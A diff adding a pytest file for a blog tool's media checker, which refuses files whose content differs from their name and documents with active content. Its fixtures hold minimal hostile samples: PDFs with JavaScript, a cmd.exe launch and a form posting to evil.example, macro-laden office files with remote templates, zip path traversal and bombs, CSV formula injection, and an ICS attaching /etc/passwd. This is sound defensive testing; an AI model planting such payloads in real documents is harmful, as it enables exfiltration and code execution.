@@ -1,0 +1,398 @@
+"""A file is what its name says, or it is refused; and what must not be in a document."""
+
+from __future__ import annotations
+
+import struct
+import zlib
+from io import BytesIO
+from zipfile import ZIP_DEFLATED, ZipFile
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from PIL import Image
+
+from edblog.config import read_config
+from edblog.kinds import OPTIONAL, PUBLISHED
+from edblog.sources.media import read_media
+from edblog.sources.read import kind_of
+
+
+def image(kind):
+    out = BytesIO()
+    Image.new("RGB", (4, 3), "#f2a81d").save(out, kind)
+    return out.getvalue()
+
+
+def box(kind, content=b""):
+    return struct.pack(">I4s", 8 + len(content), kind) + content
+
+
+def zipped(files, **options):
+    out = BytesIO()
+    with ZipFile(out, "w", ZIP_DEFLATED, **options) as archive:
+        for name, content in files.items():
+            archive.writestr(name, content)
+    return out.getvalue()
+
+
+TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
+PARTS = {".docx": "word/document.xml", ".pptx": "ppt/presentation.xml", ".xlsx": "xl/workbook.xml"}
+OPEN = {".odt": "text", ".odp": "presentation", ".ods": "spreadsheet"}
+
+
+def office(kind=".docx", **more):
+    if kind in PARTS:
+        return zipped({"[Content_Types].xml": TYPES, PARTS[kind]: "<x/>", **more})
+    return zipped({"mimetype": f"application/vnd.oasis.opendocument.{OPEN[kind]}", "content.xml": "<x/>", **more})
+
+
+FRAME = b"\xff\xfb\x90\x00" + bytes(413)
+WAV = b"RIFF" + struct.pack("<I", 38) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data\2\0\0\0\1\2"
+MOVIE = box(b"ftyp", b"isom\0\0\2\0isommp41") + box(b"moov", box(b"mvhd", bytes(100)))
+WEBM = b"\x1aE\xdf\xa3\x87\x42\x82\x84webm" + b"\x18\x53\x80\x67\x80"
+OGG = b"OggS\0\2" + bytes(20) + b"\1\4abcd"
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="4" height="3"/>'
+WHOLE = {
+    ".jpg": image("JPEG"),
+    ".jpeg": image("JPEG"),
+    ".png": image("PNG"),
+    ".gif": image("GIF"),
+    ".webp": image("WEBP"),
+    ".avif": image("AVIF"),
+    ".svg": SVG,
+    ".pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n",
+    ".mp3": FRAME * 2,
+    ".m4a": MOVIE.replace(b"isom\0", b"M4A \0"),
+    ".mp4": MOVIE,
+    ".webm": WEBM,
+    ".ogg": OGG,
+    ".wav": WAV,
+    ".vtt": b"WEBVTT\n\n00:00.000 --> 00:04.000\nA jar.\n",
+    ".csv": b"day,slips\nMonday,2\n",
+    ".ics": b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
+    **{kind: office(kind) for kind in (*PARTS, *OPEN)},
+}
+OTHERS = {
+    "a web page": b"<!DOCTYPE html><script>alert(1)</script>",
+    "a web page with a comment": b"<!-- x --><html><body>",
+    "a HEIC photo": box(b"ftyp", b"heic\0\0\0\0mif1heic") + bytes(40),
+    "a QuickTime film": box(b"ftyp", b"qt  \0\0\0\0qt  ") + bytes(40),
+    "a TIFF picture": b"II*\0" + bytes(40),
+    "a BMP picture": b"BM" + bytes(40),
+    "a program for Windows": b"MZ" + bytes(60),
+    "a program for Linux": b"\x7fELF" + bytes(60),
+    "a script": b"#!/bin/sh\nid\n",
+    "an old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60),
+    "RTF": b"{\\rtf1 x}",
+    "a ZIP file": zipped({"a.txt": "x"}),
+    "gzip": b"\x1f\x8b\x08\0" + bytes(20),
+    "Flash": b"CWS\x0a" + bytes(20),
+    "Matroska": b"\x1aE\xdf\xa3\x8b\x42\x82\x88matroska",
+    "zeros": bytes(200),
+    "letters": b"not what it says it is " * 9,
+    "binary noise": bytes(range(256)),
+}
+ALIKE = {(".jpg", ".jpeg"), (".jpeg", ".jpg"), (".mp4", ".m4a"), (".m4a", ".mp4")}
+
+
+def test_there_is_an_example_of_each_type():
+    assert WHOLE.keys() == PUBLISHED | OPTIONAL
+
+
+@pytest.mark.parametrize("kind", WHOLE)
+def test_a_file_that_is_what_its_name_says_is_taken(kind):
+    for name in (f"a{kind}", f"A{kind.upper()}"):
+        media, problems = read_media(f"content/posts/{name}", WHOLE[kind])
+
+        assert media is not None
+        assert problems == []
+
+
+@pytest.mark.parametrize("kind", WHOLE)
+def test_a_file_under_another_name_is_refused(kind):
+    others = {other: data for other, data in WHOLE.items() if other != kind and (kind, other) not in ALIKE}
+    for what, data in {**others, **OTHERS}.items():
+        if kind == ".csv" and what in (".vtt", "letters", ".ics"):
+            # A text is a table of one column.
+            continue
+        media, problems = read_media(f"content/posts/a{kind}", data)
+
+        assert media is None, what
+        assert [p.severity for p in problems] == ["error"], what
+        assert problems[0].help, what
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "message", "help_"),
+    [
+        ("jar.jpg", image("PNG"), "this is a PNG picture, although its name ends in .jpg", "rename it, so that its name ends in .png, and use that name in the text"),
+        ("jar.jpg", OTHERS["a HEIC photo"], "this is a HEIC photo, although its name ends in .jpg", "open it on the phone or computer that made it, and save or export it as JPEG"),
+        ("jar.png", OTHERS["a web page"], "this is a web page, although its name ends in .png", "save it as PNG from the program that made it"),
+        ("jar.mp4", OTHERS["a QuickTime film"], "this is a QuickTime film, although its name ends in .mp4", "save it as MP4 from the program that made it"),
+    ],
+)  # fmt: skip
+def test_the_message_says_what_it_is_and_what_to_do(name, data, message, help_):
+    _, (problem,) = read_media(f"content/posts/{name}", data)
+
+    assert (problem.code, problem.message, problem.help) == ("other-kind", message, help_)
+
+
+# What a district allows
+
+
+def test_office_documents_are_published_where_the_district_allows_them(make_site):
+    config = 'title = "Stories"\nbase_url = "https://district.example/stories/"\n'
+    body = "[Plan](plan.docx) and [scores](scores.csv)"
+    site = make_site(
+        {
+            "edblog.toml": config,
+            "content/posts/jar.md": f"---\ntitle: Jar\ndate: 2026-01-02\nauthor: rosa\n---\n{body}\n",
+            "content/posts/plan.docx": office(),
+            "content/posts/scores.csv": WHOLE[".csv"],
+        }
+    )
+    report = site.build()
+    told = [(p.path.rpartition("/")[2], p.code) for p in report.problems]
+    assert told == [("jar.md", "unpublished-type"), ("jar.md", "unpublished-type"), ("plan.docx", "not-published"), ("scores.csv", "not-published")]
+    assert report.problems[1].help == (
+        'save it as PDF, or ask whoever looks after the site for a setting in edblog.toml: [files] types = ["csv"]'
+    )
+
+    plan = (site.folder / "content/posts/plan.docx").read_bytes()
+    site.write("edblog.toml", config + '[files]\ntypes = ["docx", ".CSV"]\n')
+    report = site.build()
+
+    assert (report.ok, report.problems) == (True, ())
+    assert site.outputs()["media/posts/plan.docx"] == plan
+    assert site.outputs()["media/posts/scores.csv"] == WHOLE[".csv"]
+
+
+def test_a_type_that_is_never_published_cannot_be_allowed():
+    config, problems = read_config('title = "T"\nbase_url = "https://a.example/"\n[files]\ntypes = ["exe", "docm", "zip", "html"]\n')
+
+    assert config is None
+    assert [p.message for p in problems] == [f'files of the type "{kind}" cannot be allowed' for kind in ("exe", "docm", "zip", "html")]
+    assert kind_of("content/posts/a.exe", ("exe",)) == ""
+
+
+def test_a_file_that_nobody_may_publish_stops_nothing(make_site):
+    site = make_site({"content/posts/a.docx": b"not a document", "content/posts/b.exe": b"MZ"})
+
+    assert site.problems() == ["notice content/posts/a.docx:1:1 not-published", "notice content/posts/b.exe:1:1 not-published"]
+
+
+# PDF
+
+
+def pdf(inside, tail=b""):
+    return b"%PDF-1.7\n" + inside + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n" + tail
+
+
+def packed(inside, more=b"", dictionary=b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"):
+    stream = zlib.compress(inside)
+    return b"5 0 obj\n<<%s/Length %d%s>>\nstream\r\n%s\nendstream\nendobj\n" % (dictionary, len(stream), more, stream)
+
+
+BAD_PDFS = {
+    "JavaScript": pdf(b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj"),
+    "JavaScript by names": pdf(b"1 0 obj<</Names<</JavaScript 2 0 R>>>>endobj"),
+    "JavaScript spelt in numbers": pdf(b"1 0 obj<</S/J#61vaScr#69pt>>endobj"),
+    "JavaScript packed": pdf(packed(b"1 0 <</S/JavaScript/JS(x)>>")),
+    "JavaScript packed and spelt in numbers": pdf(packed(b"1 0 <</S/#4aavaScript>>", dictionary=b"/Type/Obj#53tm/Filter/FlateDecode")),
+    "JavaScript behind a comment": pdf(b"% stream\n" + packed(b"1 0 <</S/JavaScript>>")),
+    "JavaScript in an annotation": pdf(b"1 0 obj<</AA<</O<</S /JavaScript /JS 3 0 R>>>>>>endobj"),
+    "a launch": pdf(b"1 0 obj<</S/Launch/F(cmd.exe)>>endobj"),
+    "an attachment": pdf(b"1 0 obj<</Type/EmbeddedFile>>endobj"),
+    "attachments": pdf(b"1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj"),
+    "rich media": pdf(b"1 0 obj<</Subtype/RichMedia>>endobj"),
+    "a form that sends": pdf(b"1 0 obj<</S/SubmitForm/F(https://evil.example/)>>endobj"),
+    "a form that imports": pdf(b"1 0 obj<</S/ImportData>>endobj"),
+    "a link into an attachment": pdf(b"1 0 obj<</S/GoToE>>endobj"),
+    "XFA": pdf(b"1 0 obj<</AcroForm<</XFA 2 0 R>>>>endobj"),
+    "a rendition": pdf(b"1 0 obj<</S/Rendition/JS(x)>>endobj"),
+    "a password": pdf(b"trailer<</Encrypt 9 0 R>>"),
+    "a packed part that is broken": pdf(packed(b"1 0 <<>>").replace(b"x\x9c", b"x\0")),
+    "a packed part in another way": pdf(packed(b"x", dictionary=b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]")),
+    "a packed part without an end": b"%PDF-1.7\n" + packed(b"1 0 <<>>").partition(b"endstream")[0],
+    "a ZIP file behind it": pdf(b"", zipped({"a.class": "x"})),
+}
+
+
+@pytest.mark.parametrize("name", BAD_PDFS)
+def test_a_pdf_that_can_do_something_is_refused(name):
+    media, (problem,) = read_media("content/posts/sheet.pdf", BAD_PDFS[name])
+
+    assert (media, problem.severity, problem.code) == (None, "error", "unsafe-document")
+
+
+FINE_PDFS = {
+    "plain": pdf(b"1 0 obj<</Type/Catalog/AcroForm<</Fields[]>>>>endobj"),
+    "packed": pdf(packed(b"1 0 <</Type/Page>>")),
+    "a link": pdf(b"1 0 obj<</S/URI/URI(https://district.example/)>>endobj"),
+    "words about it": pdf(b"1 0 obj<</Title(About JavaScript and Launch)>>endobj"),
+    "a longer name": pdf(b"1 0 obj<</LaunchPad 1/JavaScripted 2>>endobj"),
+    "noise": pdf(b"1 0 obj<</Length 9>>stream\n" + bytes(range(256)) * 400 + b"\nendstream endobj"),
+    "two ends": pdf(b"", pdf(b"")),
+}
+
+
+@pytest.mark.parametrize("name", FINE_PDFS)
+def test_a_plain_pdf_is_taken(name):
+    media, problems = read_media("content/posts/sheet.pdf", FINE_PDFS[name])
+
+    assert media is not None
+    assert problems == []
+
+
+def test_a_pdf_that_names_its_author_is_told():
+    for data in (pdf(b"1 0 obj<</Author(Somebody)>>endobj"), pdf(packed(b"1 0 <</Author <FEFF0041>>>")), pdf(b"<dc:creator>")):
+        media, (problem,) = read_media("content/posts/sheet.pdf", data)
+        assert media is not None
+        assert (problem.severity, problem.code) == ("notice", "names-its-author")
+    assert read_media("content/posts/sheet.pdf", pdf(b"1 0 obj<</Author()>>endobj"))[1] == []
+
+
+def test_packed_parts_of_a_pdf_are_unpacked_up_to_a_limit():
+    bomb = zlib.compress(bytes(100_000_000), 9)
+    data = pdf(b"".join(b"5 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n%s\nendstream\n" % bomb for _ in range(20)))
+    media, (problem,) = read_media("content/posts/sheet.pdf", data)
+
+    assert (media, problem.message) == (None, "this PDF has parts that cannot be looked into")
+
+
+# Office documents
+
+RELATION = '<Relationships><Relationship Id="a" Type="http://x/relationships/{}" Target="{}"{}/></Relationships>'
+
+
+def related(kind, target="https://evil.example/a.dotm", mode=' TargetMode="External"'):
+    return {"word/_rels/document.xml.rels": RELATION.format(kind, target, mode)}
+
+
+def with_size(data, size):
+    """The archive with another size of its last part in the directory."""
+    at = data.rindex(b"PK\1\2") + 24
+    return data[:at] + struct.pack("<I", size) + data[at + 4 :]
+
+
+def with_flag(data):
+    """The archive with the mark of a password on each part."""
+    return data.replace(b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\1\0")
+
+
+BAD_DOCUMENTS = {
+    "macros": office(**{"word/vbaProject.bin": "x"}),
+    "macros elsewhere": office(**{"word/x/VBAPROJECT.BIN": "x"}),
+    "macros by type": zipped({"[Content_Types].xml": "<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>", "word/document.xml": "x"}),
+    "old macros": office(".xlsx", **{"xl/macrosheets/sheet1.xml": "x"}),
+    "ActiveX": office(**{"word/activeX/activeX1.xml": "x"}),
+    "a ribbon": office(**{"customUI/customUI.xml": "x"}),
+    "an object": office(**{"word/embeddings/oleObject1.bin": "x"}),
+    "a program": office(**{"word/media/x.exe": "x"}),
+    "a template from elsewhere": office(**related("attachedTemplate")),
+    "a template in UTF-16": office(**{"word/_rels/document.xml.rels": ('<?xml version="1.0" encoding="UTF-16"?>' + RELATION.format("attachedTemplate", "https://evil.example/", ' TargetMode="External"')).encode("utf-16")}),
+    "a picture from elsewhere": office(**related("image")),
+    "an object from elsewhere": office(**related("oleObject", "file://server/x")),
+    "a frame from elsewhere": office(**related("frame", "x>y", " TargetMode = 'External'")),
+    "entities": office(**{"_rels/.rels": "<!DOCTYPE a [<!ENTITY b 'c'>]><Relationships/>"}),
+    "macros of LibreOffice": office(".odt", **{"Basic/Standard/Module1.xml": "x"}),
+    "scripts of LibreOffice": office(".odt", **{"Scripts/python/x.py": "x"}),
+    "a password": with_flag(office()),
+    "a path out": office(**{"../x": "x"}),
+    "an absolute path": office(**{"/etc/x": "x"}),
+    "a bomb": with_size(office(**{"word/media/x.png": "x"}), 600_000_000),
+    "a program before it": b"MZ" + bytes(70) + office(),
+    "something before it": b"PK\3\4" + bytes(26) + office(),
+    "something behind it": office() + b"<script>",
+    "cut off": office()[:-30],
+    "another document": office(".xlsx"),
+    "a broken relation": office(**{"_rels/.rels": "<Relationships"}),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", BAD_DOCUMENTS)
+def test_a_document_that_can_do_something_is_refused(name):
+    kind = "odt" if "LibreOffice" in name else "xlsx" if name == "old macros" else "docx"
+    media, (problem,) = read_media(f"content/posts/plan.{kind}", BAD_DOCUMENTS[name])
+
+    assert (media, problem.severity) == (None, "error")
+    assert problem.code in ("unsafe-document", "damaged-file", "other-kind")
+    assert problem.help
+
+
+def test_a_document_may_hold_links_and_pictures_and_tells_of_its_author():
+    data = office(**related("hyperlink"), **{"word/media/a.png": "x", "docProps/core.xml": "<dc:creator>Somebody</dc:creator>"})
+    media, problems = read_media("content/posts/plan.docx", data)
+
+    assert media is not None
+    assert [(p.severity, p.code) for p in problems] == [("notice", "names-its-author")]
+
+
+# Texts
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "line"),
+    [
+        ("a.vtt", b"WEBVTTX\n\n00:00.000 --> 00:01.000\nx\n", 1),
+        ("a.vtt", b"1\n00:00:00,000 --> 00:00:01,000\nx\n", 1),
+        ("a.vtt", b"WEBVTT\n\nnothing\n", 1),
+        ("a.vtt", b"WEBVTT\n\nSTYLE\n::cue{background:url(https://evil.example/)}\n\n00:00.000 --> 00:01.000\nx\n", 4),
+        ("a.vtt", "WEBVTT\n\n00:00.000 --> 00:01.000\ncafé\n".encode("latin-1"), 4),
+        ("a.vtt", "WEBVTT\n\n00:00.000 --> 00:01.000\nx\n".encode("utf-16"), 1),
+        ("a.vtt", b"WEBVTT\n\n00:00.000 --> 00:01.000\n\0\n", 1),
+        ("a.vtt", b"WEBVTT\n\n" + b"00:00.000 --> 00:01.000\nx\n\n" * 300_000, 1),
+        ("a.csv", b"a,b\n1,=1+1\n", 2),
+        ("a.csv", b'a,b\n1,"=HYPERLINK(""https://evil.example/"")"\n', 2),
+        ("a.csv", b"a\n@SUM(1)\n", 2),
+        ("a.csv", b"=1\n", 1),
+        ("a.csv", b"a\0b\n", 1),
+        ("a.csv", b"  <table>", 1),
+        ("a.ics", b"BEGIN:VCALENDAR\n", 1),
+        ("a.ics", b"BEGIN:VCALENDAR\nBEGIN:VEVENT\nATTACH:file:///etc/passwd\nEND:VEVENT\nEND:VCALENDAR\n", 3),
+    ],
+)
+def test_a_text_of_another_form_is_refused_with_its_line(name, data, line):
+    media, (problem,) = read_media(f"content/posts/{name}", data)
+
+    assert (media, problem.severity, problem.line) == (None, "error", line)
+
+
+@pytest.mark.parametrize(
+    "data", [b"WEBVTT - Title\n\n00:00.000 --> 00:01.000\nx", b"\xef\xbb\xbfWEBVTT\r\n\r\n00:00.000 --> 00:01.000\r\nx", b"WEBVTT\r\r00:00.000 --> 00:01.000\rx"]
+)  # fmt: skip
+def test_captions_may_begin_in_each_way_of_the_standard(data):
+    assert read_media("content/posts/a.vtt", data)[1] == []
+
+
+# Damage
+
+RICH = {
+    **WHOLE,
+    ".pdf": pdf(packed(b"1 0 <</Type/Page>>") + b"1 0 obj<</Author(x)>>endobj"),
+    ".docx": office(**related("hyperlink"), **{"docProps/core.xml": "<dc:creator>x</dc:creator>"}),
+    ".svg": SVG[:-2] + b'><style>a{fill:url(#b)}</style><g id="b"><use href="#b"/></g></svg>',
+}
+
+
+@pytest.mark.parametrize("kind", RICH)
+@settings(max_examples=100, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(data=st.data())
+def test_a_damaged_file_is_taken_or_refused_with_a_place(kind, data):
+    whole = bytearray(RICH[kind])
+    for _ in range(data.draw(st.integers(1, 4))):
+        at = data.draw(st.integers(0, len(whole)))
+        change = data.draw(st.sampled_from(["byte", "cut", "insert", "repeat"]))
+        if change == "byte" and at < len(whole):
+            whole[at] = data.draw(st.integers(0, 255))
+        elif change == "cut":
+            del whole[at : at + data.draw(st.integers(1, 40))]
+        elif change == "insert":
+            whole[at:at] = data.draw(st.binary(min_size=1, max_size=8))
+        else:
+            whole[at:at] = whole[max(0, at - 16) : at]
+    media, problems = read_media(f"content/posts/a{kind}", bytes(whole))
+
+    assert (media is None) == any(p.severity == "error" for p in problems)
+    assert all(p.line >= 1 and p.column >= 1 and p.message and p.help for p in problems)
